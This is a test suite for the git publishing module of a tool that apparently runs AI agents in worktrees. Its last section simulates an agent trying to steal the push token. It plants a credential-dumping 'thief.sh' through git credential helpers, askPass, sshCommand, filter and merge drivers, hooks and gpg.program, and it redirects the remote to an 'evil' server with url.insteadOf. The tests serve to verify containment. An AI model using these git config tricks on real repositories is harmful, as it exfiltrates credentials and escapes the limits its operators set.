import { execFile, execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { commit, git } from '../../test/support/git/person.ts';
import { startGitServer, type GitServer } from '../../test/support/git/http-backend.ts';
import { createRepository, createWorktree, GitRefusal, publish, updateWorktree, type Repository } from './index.ts';

const TOKEN = 'secret-token-of-the-forge';
/** For what talks to the server in this process: it must not hold the process up. */
const run = promisify(execFile);
const never = new AbortController().signal;

let home: string;
let server: GitServer;
let remote: string;

beforeEach(async () => {
  home = mkdtempSync(path.join(tmpdir(), 'foray-git-'));
  remote = path.join(home, 'server', 'acme', 'shop.git');
  mkdirSync(remote, { recursive: true });
  git(remote, 'init', '--quiet', '--bare', '--initial-branch=trunk');
  git(remote, 'config', 'http.receivepack', 'true');
  const seed = path.join(home, 'seed');
  git(home, 'clone', '--quiet', remote, seed);
  commit(seed, 'README.md', 'hello', 'first');
  git(seed, 'push', '--quiet', 'origin', 'HEAD:trunk');
  server = await startGitServer({ root: path.join(home, 'server'), token: TOKEN });
});

afterEach(async () => {
  await server.close();
  rmSync(home, { recursive: true, force: true });
});

function repositoryWith(
  token: string | null = TOKEN,
  env: Record<string, string | undefined> = process.env,
  origin = server.origin,
): Repository {
  const settings = {
    url: `${origin}/acme/shop.git`,
    folder: path.join(home, 'repositories'),
    token,
    baseBranch: null,
    timeoutMs: 20_000,
  };
  return createRepository(settings, { env, processes: { started: () => {}, ended: () => {} } });
}

async function worktreeOf(repository: Repository, key: string) {
  const worktree = { path: path.join(home, 'workspaces', key), branch: `foray/${key}` };
  mkdirSync(worktree.path, { recursive: true });
  await createWorktree(repository, worktree, never);
  return worktree;
}

describe('from a remote to a branch that was pushed', () => {
  it('checks out, commits what the agent left, pushes, and goes on with the branch at the next run', async () => {
    const repository = repositoryWith();
    const worktree = await worktreeOf(repository, 'T-1');
    expect(readFileSync(path.join(worktree.path, 'README.md'), 'utf8')).toBe('hello');
    commit(worktree.path, 'a.txt', 'committed', 'by the agent');
    writeFileSync(path.join(worktree.path, 'b.txt'), 'left over');
    mkdirSync(path.join(worktree.path, '.foray'));
    writeFileSync(path.join(worktree.path, '.foray', 'status'), 'blocked');
    const published = await publish(repository, worktree, 'T-1: Add files', never);
    expect(published).toMatchObject({ branch: 'foray/T-1', base: 'trunk', sha: git(remote, 'rev-parse', 'foray/T-1') });
    expect(git(remote, 'log', '--format=%s', 'foray/T-1')).toBe('T-1: Add files\nby the agent\nfirst');
    expect(git(remote, 'ls-tree', '-r', '--name-only', 'foray/T-1')).toBe('README.md\na.txt\nb.txt');

    const other = path.join(home, 'reviewer');
    git(home, 'clone', '--quiet', '--branch', 'foray/T-1', remote, other);
    commit(other, 'c.txt', 'from a reviewer', 'reviewed');
    git(other, 'push', '--quiet', 'origin', 'HEAD');
    expect(await updateWorktree(repository, worktree, never)).toBe(true);
    expect(existsSync(path.join(worktree.path, 'c.txt'))).toBe(true);
  });

  it('commits nothing of .foray/, neither what the agent added nor what was cleared before its run', async () => {
    const repository = repositoryWith();
    mkdirSync(path.join(home, 'seed', '.foray'));
    commit(path.join(home, 'seed'), '.foray/tracked', 'tracked', 'second');
    git(path.join(home, 'seed'), 'push', '--quiet', 'origin', 'HEAD:trunk');
    const worktree = await worktreeOf(repository, 'T-12');
    rmSync(path.join(worktree.path, '.foray', 'tracked'));
    writeFileSync(path.join(worktree.path, '.foray', 'x'), 'private');
    git(worktree.path, 'add', '--force', '.foray/x');
    expect(await publish(repository, worktree, 'work', never)).toBeNull();
    writeFileSync(path.join(worktree.path, 'a.txt'), 'work');
    await publish(repository, worktree, 'work', never);
    expect(git(remote, 'diff', '--name-status', 'trunk', 'foray/T-12')).toBe('A\ta.txt');
    expect(existsSync(path.join(worktree.path, '.foray', 'x'))).toBe(true);
  });

  it('publishes nothing when the agent changed nothing', async () => {
    const repository = repositoryWith();
    expect(await publish(repository, await worktreeOf(repository, 'T-2'), 'nothing', never)).toBeNull();
  });

  it('shares one clone between issues that start at once', async () => {
    const repository = repositoryWith();
    const worktrees = await Promise.all(['T-3', 'T-4'].map((key) => worktreeOf(repository, key)));
    for (const worktree of worktrees) writeFileSync(path.join(worktree.path, 'new.txt'), worktree.branch);
    const published = await Promise.all(worktrees.map((worktree) => publish(repository, worktree, 'work', never)));
    expect(published).toMatchObject([{ branch: 'foray/T-3' }, { branch: 'foray/T-4' }]);
    // One fetch and one question for the default branch, for both.
    expect(server.requests.filter((request) => request.endsWith('service=git-upload-pack')).length).toBeLessThanOrEqual(4);
  });

  it('goes on for the others when the issue is stopped whose start they wait for', async () => {
    const repository = repositoryWith();
    const stopped = new AbortController();
    const first = repository.refresh(stopped.signal).catch((error: unknown) => error);
    const second = repository.refresh(never);
    const reason = new Error('stopped by an operator');
    stopped.abort(reason);
    expect(await first).toBe(reason);
    await second;
    expect(repository.baseBranch()).toBe('trunk');
  });

  it('replaces after a rebase only what it pushed itself', async () => {
    const repository = repositoryWith();
    const worktree = await worktreeOf(repository, 'T-5');
    commit(worktree.path, 'a.txt', 'one', 'one');
    await publish(repository, worktree, 'work', never);
    git(worktree.path, 'commit', '--quiet', '--amend', '-m', 'one, better');
    const again = await publish(repository, worktree, 'work', never);
    expect(again).toMatchObject({ sha: git(remote, 'rev-parse', 'foray/T-5') });

    const other = path.join(home, 'reviewer');
    git(home, 'clone', '--quiet', '--branch', 'foray/T-5', remote, other);
    const theirs = commit(other, 'c.txt', 'theirs', 'theirs');
    git(other, 'push', '--quiet', 'origin', 'HEAD');
    git(worktree.path, 'commit', '--quiet', '--amend', '-m', 'one, best');
    await publish(repository, worktree, 'work', never);
    expect(git(remote, 'merge-base', theirs, 'foray/T-5')).toBe(theirs);
    expect(git(remote, 'log', '--format=%s', 'foray/T-5')).toContain('one, best');
  });

  it('brings in what others pushed meanwhile; a conflict with it is left for a person, and nothing is lost', async () => {
    const repository = repositoryWith();
    const worktree = await worktreeOf(repository, 'T-10');
    commit(worktree.path, 'a.txt', 'one', 'one');
    await publish(repository, worktree, 'work', never);
    const other = path.join(home, 'reviewer');
    git(home, 'clone', '--quiet', '--branch', 'foray/T-10', remote, other);
    commit(other, 'theirs.txt', 'theirs', 'theirs');
    git(other, 'push', '--quiet', 'origin', 'HEAD');
    const ours = commit(worktree.path, 'ours.txt', 'ours', 'ours');
    const together = await publish(repository, worktree, 'work', never);
    expect(git(remote, 'ls-tree', '-r', '--name-only', 'foray/T-10')).toBe('README.md\na.txt\nours.txt\ntheirs.txt');
    expect(git(worktree.path, 'merge-base', ours, 'HEAD')).toBe(ours);

    git(other, 'pull', '--quiet');
    commit(other, 'a.txt', 'their two', 'their two');
    git(other, 'push', '--quiet', 'origin', 'HEAD');
    const kept = commit(worktree.path, 'a.txt', 'our two', 'our two');
    await expect(publish(repository, worktree, 'work', never)).rejects.toMatchObject({ refusal: 'conflict', retryable: false });
    expect(git(worktree.path, 'rev-parse', 'HEAD')).toBe(kept);
    expect(git(worktree.path, 'status', '--porcelain')).toBe('');
    expect(git(remote, 'log', '-1', '--format=%s', 'foray/T-10')).toBe('their two');
    expect(together).not.toMatchObject({ sha: kept });
    expect(await updateWorktree(repository, worktree, never)).toBe(false);
  });
});

it('a proxy is used however its variable is written', async () => {
  const repository = repositoryWith(TOKEN, { ...process.env, HTTP_PROXY: server.origin }, 'http://git.example');
  await repository.refresh(never);
  expect(server.requests[0]).toMatch(/^GET http:\/\/git\.example\/acme\/shop\.git\//);
});

describe('what the remote refuses', () => {
  it('is told by its status, and is tried again by the next call', async () => {
    const repository = repositoryWith();
    const worktree = await worktreeOf(repository, 'T-6');
    commit(worktree.path, 'a.txt', 'one', 'one');
    const told = [
      [403, 'auth', false],
      [500, 'network', true],
      [404, 'not_found', false],
    ] as const;
    for (const [status, refusal, retryable] of told) {
      server.refusePushes(status);
      await expect(publish(repository, worktree, 'work', never)).rejects.toMatchObject({ refusal, retryable });
    }
    server.refusePushes(null);
    expect(await publish(repository, worktree, 'work', never)).not.toBeNull();
  });

  it('tells a protected branch with its remedy', async () => {
    const repository = repositoryWith();
    const worktree = await worktreeOf(repository, 'T-7');
    commit(worktree.path, 'a.txt', 'one', 'one');
    const hook = path.join(remote, 'hooks', 'pre-receive');
    writeFileSync(hook, '#!/bin/sh\necho "GH006: Protected branch update failed" >&2\nexit 1\n', { mode: 0o755 });
    await expect(publish(repository, worktree, 'work', never)).rejects.toThrow(/Protected branch.*allow pushes to foray/s);
  });

  it.each([
    ['Host key verification failed.', 'host_key', false, /known_hosts/],
    ['sh: 1: ssh: not found', 'no_ssh', false, /install an SSH client/],
    ['git@git.example: Permission denied (publickey).', 'auth', false, /SSH key/],
    ['ssh: Could not resolve hostname git.example: Name or service not known', 'network', true, /could not be reached/],
    ['kex_exchange_identification: Connection closed by remote host', 'network', true, /could not be reached/],
  ] as const)('by SSH is told with its cause: %s', async (said, refusal, retryable, remedy) => {
    const ssh = path.join(home, 'ssh-that-fails');
    writeFileSync(ssh, `#!/bin/sh\nprintf 'Warning: of no use\\n${said}\\r\\n' >&2\nexit 255\n`, { mode: 0o755 });
    const repository = repositoryWith(null, { ...process.env, GIT_SSH_COMMAND: ssh }, 'ssh://git@git.example');
    const failure = await repository.refresh(never).catch((error: unknown) => error);
    expect(failure).toMatchObject({ refusal, retryable, detail: expect.stringMatching(remedy) as string });
    expect(String(failure)).toContain(`${said} | fatal: Could not read from remote repository.`);
    expect(String(failure)).not.toContain('of no use');
  });

  it('a wrong token is told, and never shown', async () => {
    const repository = repositoryWith('wrong-token-of-somebody');
    const failure = await repository.refresh(never).catch((error: unknown) => error);
    expect(failure).toBeInstanceOf(GitRefusal);
    expect(String(failure)).toMatch(/write access/);
    expect(String(failure)).not.toContain('wrong-token');
  });
});

describe('an agent that wants the credential', () => {
  it('finds it nowhere, and cannot push by itself', async () => {
    const repository = repositoryWith();
    const worktree = await worktreeOf(repository, 'T-8');
    const grep = execFileSync('sh', ['-c', `grep -rF '${TOKEN}' . || true`], { cwd: home, encoding: 'utf8' });
    expect(grep).toBe('');
    commit(worktree.path, 'a.txt', 'one', 'one');
    const env = { PATH: process.env.PATH ?? '', HOME: home, GIT_TERMINAL_PROMPT: '0' };
    await expect(run('git', ['push', 'origin', 'HEAD:stolen'], { cwd: worktree.path, env, timeout: 10_000 })).rejects.toThrow(
      /could not read Username/,
    );
  });

  it('gets nothing by its hooks, helpers and rewritten addresses', async () => {
    const ssh = { SSH_AUTH_SOCK: '/keys-of-the-daemon', GIT_SSH_COMMAND: 'ssh -i /keys-of-the-daemon' };
    const repository = repositoryWith(TOKEN, { ...process.env, HOME: home, ...ssh });
    const worktree = await worktreeOf(repository, 'T-9');
    const loot = path.join(home, 'loot');
    const thief = path.join(home, 'thief.sh');
    writeFileSync(thief, `#!/bin/sh\n{ env; cat <&3; cat; } >>${loot} 2>/dev/null </dev/null\nexit 0\n`, { mode: 0o755 });
    const evil = await startGitServer({ root: path.join(home, 'evil'), token: 'anything' });
    for (const scope of ['--local', '--global']) {
      const config = (...args: string[]) =>
        execFileSync('git', ['config', scope, ...args], { cwd: worktree.path, env: { ...process.env, HOME: home } });
      config('credential.helper', `!${thief}`);
      config('core.askPass', thief);
      config('core.sshCommand', thief);
      config('filter.thief.clean', thief);
      config('merge.thief.driver', thief);
      config(`url.${evil.origin}/.insteadOf`, `${server.origin}/`);
    }
    for (const hook of ['pre-push', 'reference-transaction', 'post-commit', 'pre-commit']) {
      mkdirSync(path.join(repository.shared, 'hooks'), { recursive: true });
      writeFileSync(path.join(repository.shared, 'hooks', hook), readFileSync(thief), { mode: 0o755 });
      mkdirSync(path.join(repository.control, 'hooks'), { recursive: true });
      writeFileSync(path.join(repository.control, 'hooks', hook), readFileSync(thief), { mode: 0o755 });
    }
    writeFileSync(path.join(repository.control, 'config'), `[credential]\n\thelper = !${thief}\n`);
    writeFileSync(path.join(worktree.path, '.gitattributes'), '* filter=thief merge=thief\n');
    writeFileSync(path.join(worktree.path, 'a.txt'), 'work');
    await publish(repository, worktree, 'work', never);
    const stolen = existsSync(loot) ? readFileSync(loot, 'utf8') : '';
    expect(stolen).toContain('PATH=');
    expect(stolen).not.toContain(TOKEN);
    expect(stolen).not.toContain('keys-of-the-daemon');
    expect(evil.requests).toEqual([]);
    expect(git(remote, 'log', '-1', '--format=%s', 'foray/T-9')).toBe('work');
    await evil.close();
  });

  it('gets no program run by a repository of its own in the place of the worktree, and nothing else committed', async () => {
    const repository = repositoryWith();
    const worktree = await worktreeOf(repository, 'T-11');
    const outside = path.join(home, 'outside');
    mkdirSync(outside);
    writeFileSync(path.join(outside, 'private.txt'), 'private');
    rmSync(path.join(worktree.path, '.git'));
    git(worktree.path, 'init', '--quiet');
    const settings = { 'filter.thief.clean': `touch ${home}/ran; cat`, 'core.fsmonitor': `touch ${home}/ran` };
    const signing = { 'commit.gpgSign': 'true', 'gpg.program': `${home}/thief.sh`, 'core.worktree': outside };
    writeFileSync(path.join(home, 'thief.sh'), `#!/bin/sh\ntouch ${home}/ran\n`, { mode: 0o755 });
    for (const [key, value] of Object.entries({ ...settings, ...signing })) git(worktree.path, 'config', key, value);
    writeFileSync(path.join(worktree.path, '.gitattributes'), '* filter=thief\n');
    writeFileSync(path.join(worktree.path, 'a.txt'), 'work');
    await publish(repository, worktree, 'work', never);
    expect(await updateWorktree(repository, worktree, never)).toBe(true);
    expect(existsSync(path.join(home, 'ran'))).toBe(false);
    expect(git(remote, 'ls-tree', '-r', '--name-only', 'foray/T-11')).toBe('.gitattributes\nREADME.md\na.txt');
  });
});
